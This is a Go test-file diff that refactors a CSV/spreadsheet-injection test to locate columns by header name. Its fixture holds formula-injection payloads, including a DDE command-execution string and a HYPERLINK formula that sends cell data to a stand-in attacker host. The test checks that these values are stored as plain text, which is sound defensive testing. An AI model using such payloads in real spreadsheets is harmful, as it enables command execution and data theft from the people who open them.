@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/xuri/excelize/v2"
 
 	"github.com/config-report/config-report/internal/run"
 	"github.com/config-report/config-report/internal/run/runtest"
@@ -90,16 +91,18 @@ func TestCSVInjection(t *testing.T) {
 		{"+cmd|' /C calc'!A0", "-fn_1", "-2+3", "\t=1"},
 		{"+cmd|' /C calc'!A0", "=1+1", "@SUM(1)", `=HYPERLINK("https://evil.example/?"&A1,"x")`},
 	}
+	id, name, ann := col(t, r[0], "Resource ID"), col(t, r[0], "Resource name"), col(t, r[0], "Annotation")
 	var cells [][]string
 	for _, row := range r[1:] {
-		cells = append(cells, []string{row[1], row[9], row[10], row[11]})
+		cells = append(cells, []string{row[1], row[id], row[name], row[ann]})
 	}
 	if diff := cmp.Diff(wantCells, cells); diff != "" {
 		t.Errorf("workbook resource cells (-want +got):\n%s", diff)
 	}
-	for _, ref := range []string{"B2", "J3", "K3", "L3"} {
-		if formula, err := f.GetCellFormula(SheetResources, ref); err != nil || formula != "" {
-			t.Errorf("%s!%s has formula %q (%v), want text", SheetResources, ref, formula, err)
+	for _, ref := range []struct{ col, row int }{{1, 2}, {id, 3}, {name, 3}, {ann, 3}} {
+		cell, _ := excelize.CoordinatesToCellName(ref.col+1, ref.row)
+		if formula, err := f.GetCellFormula(SheetResources, cell); err != nil || formula != "" {
+			t.Errorf("%s!%s has formula %q (%v), want text", SheetResources, cell, formula, err)
 		}
 	}
 
@@ -114,7 +117,8 @@ func TestCSVInjection(t *testing.T) {
 	}
 	f2 := openWorkbook(t, download(t, c, run.WorkbookKey(run2)))
 	resolved := rows(t, f2, SheetResolved)
-	if len(resolved) != 2 || resolved[1][9] != "=1+1" || resolved[1][11] != evil.Annotation || resolved[1][13] != "resolved" {
+	if len(resolved) != 2 || resolved[1][col(t, resolved[0], "Resource ID")] != "=1+1" ||
+		resolved[1][col(t, resolved[0], "Last annotation")] != evil.Annotation || resolved[1][col(t, resolved[0], "Status")] != "resolved" {
 		t.Errorf("Resolved sheet = %q, want the resource =1+1 resolved with its annotation", resolved)
 	}
 }
